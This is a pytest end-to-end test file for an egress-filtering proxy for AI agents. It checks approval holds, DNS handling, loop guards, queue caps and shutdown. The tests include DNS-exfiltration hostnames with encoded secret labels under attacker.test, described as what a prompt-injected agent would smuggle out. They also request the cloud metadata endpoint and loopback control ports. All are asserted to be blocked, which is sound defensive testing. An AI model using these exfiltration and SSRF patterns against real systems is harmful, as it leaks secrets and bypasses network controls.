"""Containment: audit mode, DNS before approval, the proxy itself, dry runs, bounded queues and
shutdown, each attacked through a real running proxy."""

from __future__ import annotations

import contextlib
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ALLOWED_IP, CANARY_IP, Upstreams, resolve_args
from tests.support.clients import RawResponse, raw_request
from tests.support.control import TOKEN_ENV, api, approve, wait_pending
from tests.support.dns import DnsServer
from tests.support.proxy import REPO, ProxyProcess, free_port, start_proxy

pytestmark = pytest.mark.e2e


def _get(proxy: ProxyProcess, url: str, timeout: float = 10) -> RawResponse:
    host = url.split("/")[2]
    return raw_request(
        proxy.proxy_port, f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n", timeout=timeout
    )


def _reason(response: RawResponse) -> str | None:
    return response.headers.get("x-egress-warden-reason")


@pytest.fixture
def make_proxy(tmp_path: Path) -> Iterator[list[ProxyProcess]]:
    started: list[ProxyProcess] = []
    yield started
    for proc in started:
        proc.stop()


def _start(
    started: list[ProxyProcess], tmp: Path, policy: str, *extra: str, **kw: str
) -> ProxyProcess:
    path = tmp / f"policy{len(started)}.yaml"
    path.write_text(policy)
    proc = start_proxy(tmp / f"state{len(started)}", [path], *extra, env=TOKEN_ENV, **kw)
    started.append(proc)
    return proc


# -- 1. audit mode never lifts the guards or the requirements' floor ---------------------------


def test_audit_mode_keeps_network_guards_and_the_requirements_floor(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    control_port = free_port()
    ports = sorted({80, upstreams.http.port, upstreams.canary.port, control_port})
    requirements = tmp_path / "requirements.yaml"
    requirements.write_text("version: 1\ndeny: [floor.test]\n")
    proxy = _start(
        make_proxy,
        tmp_path,
        f"version: 1\nmode: audit\ndefault: deny\ndeny: [evil.test]\n"
        f"allow: [{ALLOWED_IP}/32]\nnetwork: {{ports: {ports}}}\n",
        "--requirements",
        str(requirements),
        "--resolve",
        f"floor.test:{ALLOWED_IP}",
        *resolve_args(),
        control=f"127.0.0.1:{control_port}",
    )
    canary_before, http_before = len(upstreams.canary.hits), len(upstreams.http.hits)
    for url in (
        f"http://{CANARY_IP}:{upstreams.canary.port}/",
        f"http://localhost:{upstreams.canary.port}/",
        "http://169.254.169.254/latest/meta-data/",
        f"http://127.0.0.1:{control_port}/v1/pending",
    ):
        response = _get(proxy, url)
        assert (response.status, _reason(response)) == (403, "private_network"), url
    floor = _get(proxy, f"http://floor.test:{upstreams.http.port}/floor")
    assert (floor.status, _reason(floor)) == (403, "deny_rule")
    assert len(upstreams.canary.hits) == canary_before
    assert len(upstreams.http.hits) == http_before
    # What the user policy's own rules refuse is let through and recorded as would_deny.
    for path in ("evil", "unknown"):
        host = "evil.test" if path == "evil" else "unknown.test"
        response = _get(proxy, f"http://{host}:{upstreams.http.port}/{path}")
        assert response.status == 200, path
        assert proxy.wait_decision(**{"server.address": host})["egress.reason"] == "would_deny"
    assert len(upstreams.http.hits) == http_before + 2


def test_requirements_audit_mode_softens_the_floor_but_not_the_guards(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    ports = sorted({80, upstreams.http.port, upstreams.canary.port})
    requirements = tmp_path / "requirements.yaml"
    requirements.write_text("version: 1\nmode: audit\ndeny: [floor.test]\n")
    proxy = _start(
        make_proxy,
        tmp_path,
        f"version: 1\ndefault: deny\nallow: [{ALLOWED_IP}/32]\nnetwork: {{ports: {ports}}}\n",
        "--requirements",
        str(requirements),
        "--resolve",
        f"floor.test:{ALLOWED_IP}",
        *resolve_args(),
    )
    floor = _get(proxy, f"http://floor.test:{upstreams.http.port}/floor-audit")
    assert floor.status == 200
    before = len(upstreams.canary.hits)
    guarded = _get(proxy, f"http://loopname.test:{upstreams.canary.port}/")
    assert (guarded.status, _reason(guarded)) == (403, "private_network")
    assert len(upstreams.canary.hits) == before


# -- 2. no DNS query for a name nobody approved ------------------------------------------------


def test_a_miss_is_held_unresolved_and_resolved_only_after_approval(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    secret = "c2vjcmv0lwrhdge"  # what a prompt-injected agent would smuggle out in a label
    answers = {
        "allowed.test": ALLOWED_IP,
        f"{secret}.attacker.test": ALLOWED_IP,
        "inside.attacker.test": CANARY_IP,
    }
    ports = sorted({80, upstreams.http.port, upstreams.canary.port})
    with DnsServer(answers) as dns:
        proxy = _start(
            make_proxy,
            tmp_path,
            f"version: 1\ndefault: ask\nallow: [allowed.test, {ALLOWED_IP}/32]\n"
            f"network: {{ports: {ports}}}\napproval: {{wait: 300ms}}\n",
            "--nameserver",
            f"{dns.host}:{dns.port}",
        )
        allowed = _get(proxy, f"http://allowed.test:{upstreams.http.port}/")
        assert allowed.status == 200
        assert dns.queried("allowed.test")  # the server is really asked for allowed names

        leak = f"{secret}.attacker.test"
        held = _get(proxy, f"http://{leak}:{upstreams.http.port}/")
        assert (held.status, _reason(held)) == (403, "approval_pending")
        assert not dns.queried("attacker.test"), dns.queries

        # The dry run agrees, and asks nobody either.
        check = subprocess.run(
            [
                sys.executable,
                "-m",
                "proxy.cli",
                "check",
                f"http://{leak}:{upstreams.http.port}/",
                "--policy",
                str(tmp_path / "policy0.yaml"),
                "--nameserver",
                f"{dns.host}:{dns.port}",
            ],
            cwd=REPO,
            capture_output=True,
            text=True,
            check=False,
        )
        assert check.returncode == 3, check.stdout + check.stderr
        assert not dns.queried("attacker.test")

        item = wait_pending(proxy, leak, waiting=0)
        approve(proxy, item["id"], grant_for="all")
        released = _get(proxy, f"http://{leak}:{upstreams.http.port}/after")
        assert released.status == 200
        assert dns.queried(leak)

        # After approval the answer is still checked: a private address stays unreachable.
        before = len(upstreams.canary.hits)
        inside = "inside.attacker.test"
        first = _get(proxy, f"http://{inside}:{upstreams.canary.port}/")
        assert _reason(first) == "approval_pending"
        assert not dns.queried(inside)
        approve(proxy, wait_pending(proxy, inside, waiting=0)["id"], grant_for="all")
        second = _get(proxy, f"http://{inside}:{upstreams.canary.port}/")
        assert (second.status, _reason(second)) == (403, "private_network")
        assert len(upstreams.canary.hits) == before


def test_connect_to_a_miss_is_held_without_a_query(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    with DnsServer({"allowed.test": ALLOWED_IP}) as dns:
        proxy = _start(
            make_proxy,
            tmp_path,
            "version: 1\ndefault: ask\napproval: {wait: 200ms}\n",
            "--nameserver",
            f"{dns.host}:{dns.port}",
        )
        target = "ZXhmaWw.tunnel.attacker.test:443"
        response = raw_request(
            proxy.proxy_port, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
        )
        assert (response.status, _reason(response)) == (403, "approval_pending")
        assert dns.packets == 0


# -- 3. the proxy itself, however it is spelled ------------------------------------------------


def test_wildcard_listeners_are_the_proxy_itself_on_every_local_address(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    proxy_port, control_port = free_port(), free_port()
    # Everything is allowed and nothing private is blocked: only the self guard stands.
    proxy = _start(
        make_proxy,
        tmp_path,
        f"version: 1\ndefault: allow\nallow: [0.0.0.0/0, '::/0']\n"
        f"network: {{ports: [{proxy_port}, {control_port}], block_private: false}}\n",
        listen=f"0.0.0.0:{proxy_port}",
        control=f"0.0.0.0:{control_port}",
    )
    for host in ("0.0.0.0", "127.0.0.1", "127.0.0.3", "[::ffff:127.0.0.4]", "0", "localhost"):
        for port in (control_port, proxy_port):
            response = _get(proxy, f"http://{host}:{port}/v1/pending", timeout=5)
            assert (response.status, _reason(response)) == (403, "private_network"), (host, port)
            target = f"{host}:{port}"
            tunnel = raw_request(
                proxy.proxy_port, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
            )
            assert (tunnel.status, _reason(tunnel)) == (403, "private_network"), target
    # No loop: the proxy served every request above once, and is still healthy.
    with api(proxy) as client:
        assert client.get("/healthz").status_code == 200


class _Relay:
    """A TCP relay on 127.0.0.2 to the proxy's own port: a path back the address guard
    cannot see (the relay's address is allowed), so only the loop marker can stop it."""

    def __init__(self, target_port: int) -> None:
        self.sock = socket.create_server((ALLOWED_IP, 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._target = target_port
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            if self.connections > 20:
                client.close()
                continue
            upstream = socket.create_connection(("127.0.0.1", self._target))
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(src: socket.socket, dst: socket.socket) -> None:
        try:
            while data := src.recv(65536):
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                with contextlib.suppress(OSError):
                    s.shutdown(socket.SHUT_RDWR)

    def close(self) -> None:
        self.sock.close()


def test_a_request_that_comes_back_through_the_proxy_is_refused(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    proxy_port = free_port()
    relay = _Relay(proxy_port)
    try:
        proxy = _start(
            make_proxy,
            tmp_path,
            f"version: 1\ndefault: deny\nallow: [relay.test, {ALLOWED_IP}/32]\n"
            f"network: {{ports: [80, {relay.port}]}}\n",
            "--resolve",
            f"relay.test:{ALLOWED_IP}",
            listen=f"127.0.0.1:{proxy_port}",
        )
        response = _get(proxy, f"http://relay.test:{relay.port}/loop", timeout=10)
        assert (response.status, _reason(response)) == (403, "private_network")
        assert relay.connections == 1
        line = proxy.wait_decision(**{"egress.reason": "private_network"})
        assert line["egress.decision"] == "deny"
    finally:
        relay.close()


# -- 6. bounded queues -------------------------------------------------------------------------


def test_pending_items_per_agent_are_capped(tmp_path: Path, make_proxy: list[ProxyProcess]) -> None:
    proxy = _start(
        make_proxy,
        tmp_path,
        "version: 1\ndefault: ask\napproval: {wait: 100ms, max_pending: 3}\n",
    )
    reasons = [
        _reason(raw_request(proxy.proxy_port, f"CONNECT n{i}.flood.test:443 HTTP/1.1\r\n\r\n"))
        for i in range(6)
    ]
    assert reasons == ["approval_pending"] * 3 + ["approval_limit"] * 3
    # Retrying a destination already pending still joins its item.
    again = raw_request(proxy.proxy_port, "CONNECT n0.flood.test:443 HTTP/1.1\r\n\r\n")
    assert _reason(again) == "approval_pending"
    with api(proxy) as client:
        assert len(client.get("/v1/pending").json()) == 3


# -- 7. the dry run is the live path -----------------------------------------------------------


def test_dry_run_matches_the_live_guard_and_rejects_bad_urls(
    tmp_path: Path, make_proxy: list[ProxyProcess]
) -> None:
    policy = tmp_path / "dry.yaml"
    policy.write_text("version: 1\ndefault: ask\n")
    check = subprocess.run(
        [
            sys.executable,
            "-m",
            "proxy.cli",
            "check",
            "http://169.254.169.254/",
            "--policy",
            str(policy),
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert check.returncode == 1, check.stdout
    assert "private_network" in check.stdout
    proxy = _start(make_proxy, tmp_path, "version: 1\ndefault: ask\n")
    live = _get(proxy, "http://169.254.169.254/")
    assert _reason(live) == "private_network"
    with api(proxy) as client:
        answer = client.post("/v1/check", json={"url": "http://169.254.169.254/"}).json()
        assert (answer["decision"], answer["reason"]) == ("deny", "private_network")
        for bad in ("http://[::1", "ftp://files.test/", "http://:80/", "http://x.test:99999/"):
            response = client.post("/v1/check", json={"url": bad})
            assert response.status_code == 422, bad
            assert response.json()["error"] == "invalid_url"


# -- 12. shutdown answers what it holds and records it ----------------------------------------


def test_sigterm_answers_held_requests_and_records_them(
    tmp_path: Path, upstreams: Upstreams, make_proxy: list[ProxyProcess]
) -> None:
    ports = sorted({443, upstreams.http.port})
    proxy = _start(
        make_proxy,
        tmp_path,
        f"version: 1\ndefault: ask\nallow: [allowed.test, {ALLOWED_IP}/32]\n"
        f"network: {{ports: {ports}}}\napproval: {{wait: 60s}}\n",
        "--drain",
        "2s",
        *resolve_args(),
    )
    answers: list[RawResponse] = []
    held = threading.Thread(
        target=lambda: answers.append(
            raw_request(proxy.proxy_port, "CONNECT held.shutdown.test:443 HTTP/1.1\r\n\r\n", 30)
        )
    )
    held.start()
    wait_pending(proxy, "held.shutdown.test")
    # An open tunnel gets the grace period: it still carries traffic after SIGTERM.
    tunnel = socket.create_connection(("127.0.0.1", proxy.proxy_port))
    target = f"allowed.test:{upstreams.http.port}"
    tunnel.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    assert b" 200 " in tunnel.recv(4096)
    started = time.monotonic()
    proxy.process.send_signal(signal.SIGTERM)
    held.join(timeout=10)
    assert answers and (answers[0].status, _reason(answers[0])) == (403, "approval_pending")
    assert time.monotonic() - started < 5
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", proxy.proxy_port), timeout=1).close()
    tunnel.sendall(f"GET /during-drain HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    assert b"200" in tunnel.recv(4096)
    assert proxy.process.wait(timeout=15) == 0
    assert time.monotonic() - started >= 1.5  # the open tunnel held it for the grace period
    tunnel.close()
    with sqlite3.connect(proxy.state_dir / "warden.db") as db:
        rows = db.execute(
            "SELECT decision, reason FROM decisions WHERE host = 'held.shutdown.test'"
        ).fetchall()
    assert ("deny", "approval_pending") in rows and ("hold", "default_ask") in rows


def test_open_file_soft_limit_is_raised_at_start(
    tmp_path: Path, make_proxy: list[ProxyProcess]
) -> None:
    # Each tunnel holds two sockets: a 1024-file soft limit would cap the proxy at ~500.
    proxy = _start(make_proxy, tmp_path, "version: 1\ndefault: deny\n")
    limits = Path(f"/proc/{proxy.process.pid}/limits").read_text()
    soft, hard = next(
        line.split()[3:5] for line in limits.splitlines() if line.startswith("Max open files")
    )
    assert soft == hard, limits
    listening = next(line for line in proxy.lines if line.get("event") == "egress.listening")
    assert str(listening["open_files"]) == soft


# -- 5. claimed identities: per-agent rules need an agents registry ---------------------------


def test_per_agent_rules_without_an_agents_file_refuse_to_start(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\ndefault: deny\nagents: {trusted-bot: {default: allow}}\n")
    with pytest.raises(RuntimeError) as failed:
        start_proxy(tmp_path / "state", [policy], env=TOKEN_ENV, timeout=20)
    message = str(failed.value)
    assert "exited with 1" in message, message
    assert "trusted-bot" in message and "agents" in message, message
